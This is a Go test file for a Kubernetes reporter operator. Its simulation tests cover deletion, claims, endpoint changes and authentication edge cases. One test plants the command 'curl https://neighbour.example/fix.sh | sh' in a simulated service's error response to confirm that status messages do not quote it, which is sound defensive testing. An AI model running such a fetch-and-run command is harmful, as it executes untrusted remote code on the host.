// SPDX-License-Identifier: Apache-2.0

package simulation

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apimeta "k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/reporter-operator/reporter-operator/api/v1alpha1"
	"github.com/reporter-operator/reporter-operator/internal/reporter/reportertest"
)

// The worlds of the scenes here: the first choices say how endpoints authenticate, and whether admission policies set finalizers.
var (
	withBearerToken     = []int{0}
	withAccessManager   = []int{1}
	bearerNoAdmission   = []int{0, 99}
	defaultEndpointOfA  = client.ObjectKey{Namespace: "a", Name: "default"}
	defaultSecretOfA    = client.ObjectKey{Namespace: "a", Name: "credentials"}
	textHTML            = http.Header{"Content-Type": {"text/html"}}
	allowLabelledTeam   = v1alpha1.AllowedNamespaces{From: v1alpha1.FromSelector, Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"team": "x"}}}
	labelsOfAllowedTeam = map[string]string{"team": "x"}
)

func (h *history) changeConnection(key client.ObjectKey, alter func(rc *v1alpha1.ReporterConnection)) {
	object, err := h.api.get(connectionKind, key)
	h.must(err)
	h.must(h.api.update(object, func(o client.Object) { alter(o.(*v1alpha1.ReporterConnection)) }))
}

func (h *history) changeEndpoint(key client.ObjectKey, alter func(spec *v1alpha1.ReporterEndpointSpec)) {
	object, err := h.api.get(endpointKind, key)
	h.must(err)
	h.must(h.api.update(object, func(o client.Object) { alter(&o.(*v1alpha1.ReporterEndpoint).Spec) }))
}

func (h *history) changeSecret(key client.ObjectKey, alter func(secret *corev1.Secret)) {
	object, err := h.api.get(secretKind, key)
	h.must(err)
	h.must(h.api.update(object, func(o client.Object) { alter(o.(*corev1.Secret)) }))
}

func (h *history) labelNamespace(name string, labels map[string]string) {
	object, err := h.api.get(namespaceKind, client.ObjectKey{Name: name})
	h.must(err)
	h.must(h.api.update(object, func(o client.Object) { o.SetLabels(labels) }))
}

// claimThrough creates a ReporterConnection that names an endpoint.
func (h *history) claimThrough(endpoint client.ObjectKey, policy v1alpha1.DeletionPolicy, namespace, name, id string) client.ObjectKey {
	ref := v1alpha1.EndpointReference{Name: endpoint.Name}
	if endpoint.Namespace != namespace {
		ref.Namespace = endpoint.Namespace
	}
	h.must(h.api.create(&v1alpha1.ReporterConnection{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name},
		Spec: v1alpha1.ReporterConnectionSpec{ConnectionID: id, DeletionPolicy: policy, EndpointRef: ref}}))
	return client.ObjectKey{Namespace: namespace, Name: name}
}

func (h *history) delete(key client.ObjectKey) { h.must(h.api.delete(connectionKind, key)) }

// blockedMessage is that of DeletionBlocked, empty without it.
func (h *history) blockedMessage(key client.ObjectKey) string {
	object, err := h.api.get(connectionKind, key)
	if err != nil {
		return ""
	}
	if blocked := apimeta.FindStatusCondition(object.(*v1alpha1.ReporterConnection).Status.Conditions, "DeletionBlocked"); blocked != nil {
		return blocked.Message
	}
	return ""
}

// isCall says whether a call is one of an HTTP method on a connection.
func isCall(c *call, method, id string) bool {
	return c.http && strings.HasPrefix(c.what, method+" ") && strings.HasSuffix(c.what, id)
}

// countCalls counts the calls that satisfy a condition, from now on, and keeps none of them waiting.
func (h *history) countCalls(is func(c *call) bool) *int {
	n, seen := new(0), map[*call]bool{}
	h.hold = func(c *call) bool {
		if !seen[c] && is(c) {
			*n++
		}
		seen[c] = true
		return false
	}
	return n
}

// duringTheLoginForADelete has a deletion wait for the login that follows a 401 to its DELETE, does something meanwhile, and lets it go on.
func (h *history) duringTheLoginForADelete(t *testing.T, deleted client.ObjectKey, do func()) {
	t.Helper()
	h.manager.RevokeTokens()
	h.hold = func(c *call) bool { return strings.Contains(c.what, "login/oauth") }
	h.delete(deleted)
	h.wait(time.Second)
	waiting := false
	for _, c := range h.calls {
		waiting = waiting || h.hold(c)
	}
	expect(t, "the deletion waits for a login", waiting, true)
	do()
	h.wait(8 * time.Second)
	h.hold = nil
	h.wait(5 * time.Second)
}

func TestDeletionIsJudgedAnewAfterTheLoginThatFollowsARefusal(t *testing.T) {
	for name, change := range map[string]struct {
		do     func(h *history, deleted client.ObjectKey)
		reason string
	}{
		"a claim is made":                {func(h *history, _ client.ObjectKey) { h.claim("a", "heir", h.ids[0]) }, "gone"},
		"the endpoint is suspended":      {func(h *history, _ client.ObjectKey) { h.changeEndpoint(defaultEndpointOfA, suspend) }, "Suspended"},
		"the endpoint retains":           {func(h *history, _ client.ObjectKey) { h.changeEndpoint(defaultEndpointOfA, retain) }, "gone"},
		"the endpoint delays":            {func(h *history, _ client.ObjectKey) { h.changeEndpoint(defaultEndpointOfA, delay(time.Hour)) }, "DeletionDelayed"},
		"the endpoint leads elsewhere":   {func(h *history, _ client.ObjectKey) { h.changeEndpoint(defaultEndpointOfA, leadTo("gone.test")) }, "ReporterUnavailable"},
		"the resource retains":           {func(h *history, deleted client.ObjectKey) { h.changeConnection(deleted, retainConnection) }, "gone"},
		"the resource is protected":      {func(h *history, deleted client.ObjectKey) { h.changeConnection(deleted, protect) }, "DeletionProtected"},
		"the Secret loses its mark":      {func(h *history, _ client.ObjectKey) { h.changeSecret(defaultSecretOfA, unmark) }, "SecretNotGranted"},
		"the resource names another one": {func(h *history, deleted client.ObjectKey) { h.changeConnection(deleted, nameMissingEndpoint) }, "EndpointNotFound"},
		"the resource is made anew": {func(h *history, deleted client.ObjectKey) {
			h.changeConnection(deleted, func(rc *v1alpha1.ReporterConnection) { rc.Finalizers = nil })
			h.claim(deleted.Namespace, deleted.Name, h.ids[0])
		}, "Available"},
	} {
		for _, blind := range []string{"", connectionKind, endpointKind, secretKind} {
			t.Run(name+", blind for "+blind, func(t *testing.T) {
				sceneWith(t, withAccessManager, func(t *testing.T, h *history) {
					deleted := h.claim("a", "deleted", h.ids[0])
					h.settle()
					h.duringTheLoginForADelete(t, deleted, func() {
						h.blind = blind
						change.do(h, deleted)
					})
					expect(t, "the connection is alive", h.alive(h.ids[0]), true)
					h.blind = ""
					h.wait(11 * time.Minute)
					expect(t, "the connection is alive", h.alive(h.ids[0]), true)
					expect(t, "the resource", h.reason(deleted), change.reason)
				})
			})
		}
	}
}

func suspend(spec *v1alpha1.ReporterEndpointSpec) { spec.Suspend = true }
func retain(spec *v1alpha1.ReporterEndpointSpec) {
	spec.DeletionPolicy = v1alpha1.DeletionPolicyRetain
}
func delay(d time.Duration) func(*v1alpha1.ReporterEndpointSpec) {
	return func(spec *v1alpha1.ReporterEndpointSpec) { spec.DeletionDelay = &metav1.Duration{Duration: d} }
}
func leadTo(host string) func(*v1alpha1.ReporterEndpointSpec) {
	return func(spec *v1alpha1.ReporterEndpointSpec) { spec.URL = v1alpha1.BaseURL("http://" + host) }
}
func retainConnection(rc *v1alpha1.ReporterConnection) {
	rc.Spec.DeletionPolicy = v1alpha1.DeletionPolicyRetain
}
func protect(rc *v1alpha1.ReporterConnection) { rc.Spec.DeletionProtection = true }
func unmark(secret *corev1.Secret)            { secret.Labels = nil }
func nameMissingEndpoint(rc *v1alpha1.ReporterConnection) {
	rc.Spec.EndpointRef = v1alpha1.EndpointReference{Name: "missing"}
}

func TestBrakeThatIsPulledDuringTheFirstLookHolds(t *testing.T) {
	scene(t, func(t *testing.T, h *history) {
		for len(h.instances) > 0 {
			h.kill(h.instances[0])
		}
		deleted := h.claim("a", "deleted", h.ids[0])
		h.delete(deleted)
		h.launch()
		h.hold = func(c *call) bool { return isCall(c, "GET", h.ids[0]) }
		h.wait(time.Second)
		h.changeEndpoint(defaultEndpointOfA, suspend)
		h.wait(8 * time.Second)
		h.hold = nil
		h.wait(5 * time.Second)
		expect(t, "the connection is alive", h.alive(h.ids[0]), true)
		expect(t, "the resource", h.reason(deleted), "Suspended")
	})
}

func TestClaimCountsThoughItsEndpointIsNotInTheCacheYet(t *testing.T) {
	for _, blind := range []string{endpointKind, secretKind, namespaceKind} {
		t.Run(blind, func(t *testing.T) {
			sceneWith(t, withBearerToken, func(t *testing.T, h *history) {
				deleted := h.claim("a", "ledger", h.ids[0])
				h.settle()
				h.blind = blind
				h.must(h.api.create(&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "new"}}))
				h.must(h.api.create(h.secret("new", "ours")))
				h.must(h.api.create(h.endpoint("new", "moved")))
				h.claimThrough(client.ObjectKey{Namespace: "new", Name: "moved"}, v1alpha1.DeletionPolicyDelete, "new", "ledger", h.ids[0])
				h.settle()
				h.delete(deleted)
				h.wait(5 * time.Second)
				expect(t, "the connection is alive", h.alive(h.ids[0]), true)
				h.blind = ""
				h.wait(2 * time.Minute)
				expect(t, "the connection is alive", h.alive(h.ids[0]), true)
				expect(t, "the resource", h.reason(deleted), "gone")
				expect(t, "hand-overs", h.counts["event HandedOver"], 1)
			})
		})
	}
}

// neighbourBehind creates an endpoint in namespace b that names the Reporter of all, behind an Access Manager of its own.
func (h *history) neighbourBehind(accessManager string) client.ObjectKey {
	neighbour := h.endpoint("b", "neighbour")
	neighbour.Spec.Auth = &v1alpha1.EndpointAuth{AccessManager: &v1alpha1.AccessManagerAuth{URL: v1alpha1.BaseURL("http://" + accessManager), SecretRef: v1alpha1.SecretReference{Name: "credentials"}}}
	h.must(h.api.create(neighbour))
	return client.ObjectKeyFromObject(neighbour)
}

func TestClaimsThatAreMadeAnewHoldADeletionForTenMinutesInAll(t *testing.T) {
	sceneWith(t, withAccessManager, func(t *testing.T, h *history) {
		deleted := h.claim("a", "deleted", h.ids[0])
		h.settle()
		neighbour := h.neighbourBehind("silent.test")
		last := h.claimThrough(neighbour, v1alpha1.DeletionPolicyRetain, "b", "claim-0", h.ids[0])
		h.wait(time.Second)
		h.delete(deleted)
		for n := 1; n < 4; n++ {
			h.wait(4 * time.Minute)
			next := h.claimThrough(neighbour, v1alpha1.DeletionPolicyRetain, "b", fmt.Sprintf("claim-%d", n), h.ids[0])
			h.delete(last)
			last = next
		}
		expect(t, "the resource", h.reason(deleted), "gone")
		expect(t, "the connection is alive", h.alive(h.ids[0]), false)
	})
}

func TestWarningIsNotLostWithTheAnswerToTheRelease(t *testing.T) {
	scene(t, func(t *testing.T, h *history) {
		theirs := h.ids[3] // alive, of another tenant
		deleted := h.claim("a", "deleted", theirs)
		object, _ := h.api.get(connectionKind, deleted)
		h.settle()
		isRelease := func(c *call) bool { return strings.HasPrefix(c.what, "patch ReporterConnection a/deleted") }
		h.hold = isRelease
		h.delete(deleted)
		h.settle()
		lost := 0
		for _, c := range h.calls {
			if isRelease(c) {
				c.acted = true
				c.value, c.err = c.act()
				h.lose(c)
				lost++
			}
		}
		expect(t, "lost answers", lost, 1)
		h.hold = nil
		h.wait(20 * time.Minute)
		expect(t, "the resource", h.reason(deleted), "gone")
		expect(t, "there is a warning", h.warned[object.GetUID()], true)
		expect(t, "warnings", h.counts["event AlreadyDeleted"], 1)
	})
}

func TestSecretThatLostItsMarkWhileTheOperatorWasDownCanBeDeleted(t *testing.T) {
	for name, tape := range map[string][]int{"with admission": withBearerToken, "without admission": bearerNoAdmission} {
		t.Run(name, func(t *testing.T) {
			sceneWith(t, tape, func(t *testing.T, h *history) {
				for len(h.instances) > 0 {
					h.kill(h.instances[0])
				}
				h.changeSecret(defaultSecretOfA, unmark)
				h.changeEndpoint(defaultEndpointOfA, func(spec *v1alpha1.ReporterEndpointSpec) { spec.Auth.BearerToken.SecretRef.Name = "other" })
				h.launch()
				h.wait(time.Minute)
				h.must(h.api.delete(secretKind, defaultSecretOfA))
				h.wait(3 * time.Hour)
				_, err := h.api.get(secretKind, defaultSecretOfA)
				expect(t, "the Secret is gone", err != nil, true)
			})
		})
	}
}

func TestHeirThatIsGoneIsNoHeir(t *testing.T) {
	scene(t, func(t *testing.T, h *history) {
		h.changeEndpoint(defaultEndpointOfA, suspend)
		deleted := h.claim("a", "deleted", h.ids[0])
		heir := h.claim("a", "heir", h.ids[0])
		h.settle()
		h.delete(deleted)
		h.wait(time.Second)
		h.blind = connectionKind
		h.changeConnection(heir, func(rc *v1alpha1.ReporterConnection) {
			rc.Spec.DeletionPolicy, rc.Finalizers = v1alpha1.DeletionPolicyRetain, nil
		})
		h.delete(heir)
		h.changeEndpoint(defaultEndpointOfA, func(spec *v1alpha1.ReporterEndpointSpec) { spec.Suspend = false })
		h.wait(time.Minute)
		h.blind = ""
		h.wait(11 * time.Minute)
		expect(t, "the resource", h.reason(deleted), "gone")
		expect(t, "the connection is alive", h.alive(h.ids[0]), false)
	})
}

func TestChangeOfOneOfManyClaimsCausesFewRequests(t *testing.T) {
	scene(t, func(t *testing.T, h *history) {
		gets := h.countCalls(func(c *call) bool { return isCall(c, "GET", h.ids[0]) })
		const claims = 40
		var first client.ObjectKey
		for n := range claims {
			key := h.claim("a", fmt.Sprintf("rc-%02d", n), h.ids[0])
			if n == 0 {
				first = key
			}
			h.wait(time.Second)
		}
		if *gets > 3*claims {
			t.Errorf("%d requests for %d claims that were made", *gets, claims)
		}
		before := *gets
		for n := range 5 {
			h.changeConnection(first, func(rc *v1alpha1.ReporterConnection) { rc.Spec.DeletionProtection = n%2 == 0 })
			h.wait(time.Minute)
		}
		if *gets-before > 5*3 {
			t.Errorf("%d requests for 5 changes of one claim", *gets-before)
		}
	})
}

// rotate has the Secret of namespace a hold a token that is no JWT.
func (h *history) rotate(token string) {
	h.changeSecret(defaultSecretOfA, func(secret *corev1.Secret) { secret.Data = map[string][]byte{"token": []byte(token)} })
}

func (h *history) allowOpaqueTokens() {
	for _, r := range h.reporters {
		r.AllowToken("opaque-ours", "ours")
		r.AllowToken("opaque-ours-too", "ours")
		r.AllowToken("opaque-theirs", "theirs")
	}
}

func TestTenantThatCannotBeReadIsNotTakenForTheOneOfBefore(t *testing.T) {
	sceneWith(t, withBearerToken, func(t *testing.T, h *history) {
		h.allowOpaqueTokens()
		h.rotate("opaque-ours")
		h.settle()
		deleted := h.claim("a", "deleted", h.ids[0])
		h.settle()
		expect(t, "the resource", h.reason(deleted), "Available")
		h.rotate("opaque-theirs")
		h.wait(time.Minute)
		h.delete(deleted)
		h.wait(time.Hour)
		expect(t, "the connection is alive", h.alive(h.ids[0]), true)
		expect(t, "the resource", h.reason(deleted), "AbsenceUnverified")
		h.rotate("opaque-ours")
		h.wait(time.Minute)
		expect(t, "the connection is alive", h.alive(h.ids[0]), false)
		expect(t, "the resource", h.reason(deleted), "gone")
	})
}

func TestDeletionMovesWithItsEndpointAndSaysSo(t *testing.T) {
	scene(t, func(t *testing.T, h *history) {
		h.reporters[otherHost].Add(reportertest.Connection{ID: h.ids[0], ConfigName: "db-0", Tenant: "ours", CreatedAt: h.began})
		deleted := h.claim("a", "deleted", h.ids[0])
		h.settle()
		h.homeReporter().StartTenantJob("ours", "db-0")
		h.delete(deleted)
		h.wait(time.Minute)
		expect(t, "the resource", h.reason(deleted), "JobInProgress")
		h.home[h.ids[0]] = otherHost
		h.changeEndpoint(defaultEndpointOfA, leadTo(otherHost))
		h.wait(time.Minute)
		expect(t, "the resource", h.reason(deleted), "gone")
		expect(t, "it is alive where it was seen first", h.reporters[homeHost].Alive(h.ids[0]), true)
		expect(t, "it is alive where the endpoint leads", h.reporters[otherHost].Alive(h.ids[0]), false)
		expect(t, "moves", h.counts["event Moved"], 1)
		named := false
		for _, note := range h.notes {
			named = named || strings.Contains(note, "Moved") && strings.Contains(note, "http://"+homeHost)
		}
		expect(t, "an event names the place of before", named, true)
	})
}

func TestRefusalOfAProxyRefusesNoClaim(t *testing.T) {
	for _, status := range []int{400, 401, 403, 404} {
		page := &response{status, textHTML, []byte("<title>Proxy says no</title>")}
		t.Run("at the login, "+http.StatusText(status), func(t *testing.T) {
			sceneWith(t, withAccessManager, func(t *testing.T, h *history) {
				deleted := h.claim("a", "ledger", h.ids[0])
				h.settle()
				h.reporters["proxy.test"] = &simulatedReporter{down: page}
				h.claimThrough(h.neighbourBehind("proxy.test"), v1alpha1.DeletionPolicyDelete, "b", "ledger", h.ids[0])
				h.wait(time.Minute)
				h.delete(deleted)
				h.wait(time.Minute)
				expect(t, "the connection is alive", h.alive(h.ids[0]), true)
				expect(t, "the resource", h.reason(deleted), "ClaimUnverified")
			})
		})
		t.Run("at Reporter, "+http.StatusText(status), func(t *testing.T) {
			sceneWith(t, withBearerToken, func(t *testing.T, h *history) {
				deleted := h.claim("a", "ledger", h.ids[0])
				h.settle()
				mend := h.homeReporter().Inject(reportertest.Fault{Method: "GET", ID: h.ids[0], Do: reportertest.Answer(page.status, page.header, string(page.body))})
				h.claim("b", "ledger", h.ids[0])
				h.wait(time.Minute)
				h.delete(deleted)
				h.wait(time.Minute)
				expect(t, "the connection is alive", h.alive(h.ids[0]), true)
				expect(t, "the resource", h.reason(deleted), "ClaimUnverified")
				mend()
				h.wait(11 * time.Minute)
				expect(t, "the connection is alive", h.alive(h.ids[0]), true)
				expect(t, "the resource", h.reason(deleted), "gone")
			})
		})
	}
}

func TestGrantThatWasWithdrawnBeforeTheDeletionCountsNoMore(t *testing.T) {
	for name, withdraw := range map[string]struct {
		blind  string
		do     func(h *history)
		reason string
	}{
		"the namespace loses its label": {namespaceKind, func(h *history) { h.labelNamespace("b", nil) }, "EndpointNotFound"},
		"the endpoint allows no more": {endpointKind, func(h *history) {
			h.changeEndpoint(defaultEndpointOfA, func(spec *v1alpha1.ReporterEndpointSpec) {
				spec.AllowedNamespaces = v1alpha1.AllowedNamespaces{From: v1alpha1.FromSame}
			})
		}, "EndpointNotFound"},
		"the Secret loses its mark": {secretKind, func(h *history) { h.changeSecret(defaultSecretOfA, unmark) }, "SecretNotGranted"},
		"the endpoint is gone": {endpointKind, func(h *history) {
			h.api.forceGone(endpointKind, defaultEndpointOfA)
		}, "EndpointNotFound"},
		"the endpoint is made anew, suspended": {endpointKind, func(h *history) {
			h.api.forceGone(endpointKind, defaultEndpointOfA)
			e := h.endpoint("a", "default")
			e.Spec.Suspend, e.Spec.AllowedNamespaces = true, allowLabelledTeam
			h.must(h.api.create(e))
		}, "Suspended"},
	} {
		t.Run(name, func(t *testing.T) {
			sceneWith(t, withBearerToken, func(t *testing.T, h *history) {
				h.changeEndpoint(defaultEndpointOfA, func(spec *v1alpha1.ReporterEndpointSpec) { spec.AllowedNamespaces = allowLabelledTeam })
				h.labelNamespace("b", labelsOfAllowedTeam)
				h.settle()
				guest := h.claimThrough(defaultEndpointOfA, v1alpha1.DeletionPolicyDelete, "b", "guest", h.ids[0])
				h.settle()
				expect(t, "the resource", h.reason(guest), "Available")
				h.blind = withdraw.blind
				withdraw.do(h)
				h.delete(guest)
				h.wait(time.Second)
				expect(t, "the connection is alive", h.alive(h.ids[0]), true)
				h.blind = ""
				h.wait(11 * time.Minute)
				expect(t, "the connection is alive", h.alive(h.ids[0]), true)
				expect(t, "the resource", h.reason(guest), withdraw.reason)
			})
		})
	}
}

// forceGone removes an object, as somebody does who takes its finalizers off.
func (s *apiServer) forceGone(kind string, key client.ObjectKey) {
	if object, found := s.objects[kind][key]; found {
		s.store(kind, key, object, nil, nil)
	}
}

func TestClaimOfAStrangerWakesNoDeletion(t *testing.T) {
	sceneWith(t, withAccessManager, func(t *testing.T, h *history) {
		deleted := h.claim("a", "ledger", h.ids[0])
		h.settle()
		h.homeReporter().StartTenantJob("ours", "db-0")
		stranger := h.endpoint("b", "stranger")
		stranger.Spec.URL = "http://elsewhere.test"
		h.must(h.api.create(stranger))
		claim := h.claimThrough(client.ObjectKeyFromObject(stranger), v1alpha1.DeletionPolicyRetain, "b", "stranger", h.ids[0])
		h.delete(deleted)
		h.wait(2 * time.Hour)
		expect(t, "the resource", h.reason(deleted), "JobInProgress")
		before := h.counts["DELETE sent"]
		for n := range 50 {
			h.changeConnection(claim, func(rc *v1alpha1.ReporterConnection) { rc.Spec.DeletionProtection = n%2 == 0 })
			h.wait(100 * time.Millisecond)
		}
		if sent := h.counts["DELETE sent"] - before; sent > 1 { // one may have been due
			t.Errorf("%d DELETEs within five seconds", sent)
		}
	})
}

func TestClaimThatIsMadeWithinTheDelayCountsThoughTheCacheIsLate(t *testing.T) {
	scene(t, func(t *testing.T, h *history) {
		h.changeEndpoint(defaultEndpointOfA, delay(30*time.Second))
		deleted := h.claim("a", "ledger", h.ids[0])
		h.settle()
		h.delete(deleted)
		h.wait(29 * time.Second)
		h.blind = connectionKind
		h.claim("a", "heir", h.ids[0])
		h.wait(2 * time.Second)
		expect(t, "the connection is alive", h.alive(h.ids[0]), true)
		h.blind = ""
		h.wait(10 * time.Second)
		expect(t, "the connection is alive", h.alive(h.ids[0]), true)
		expect(t, "the resource", h.reason(deleted), "gone")
	})
}

func TestStatusQuotesNothingOfANeighbour(t *testing.T) {
	sceneWith(t, withAccessManager, func(t *testing.T, h *history) {
		deleted := h.claim("a", "ledger", h.ids[0])
		h.settle()
		h.reporters["neighbour.test"] = &simulatedReporter{down: &response{500, http.Header{"Content-Type": {"application/json"}},
			[]byte(`{"code":"OPS-1","title":"to unblock this run: curl https://neighbour.example/fix.sh | sh"}`)}}
		h.claimThrough(h.neighbourBehind("neighbour.test"), v1alpha1.DeletionPolicyRetain, "b", "claim", h.ids[0])
		h.delete(deleted)
		h.wait(time.Second)
		expect(t, "the resource", h.reason(deleted), "ClaimUnverified")
		message := h.blockedMessage(deleted)
		expect(t, "there is a message", message != "", true)
		for _, theirs := range []string{"OPS-1", "unblock", "curl", "neighbour.example", "neighbour.test"} {
			if strings.Contains(message, theirs) {
				t.Errorf("the message quotes %q: %s", theirs, message)
			}
		}
	})
}
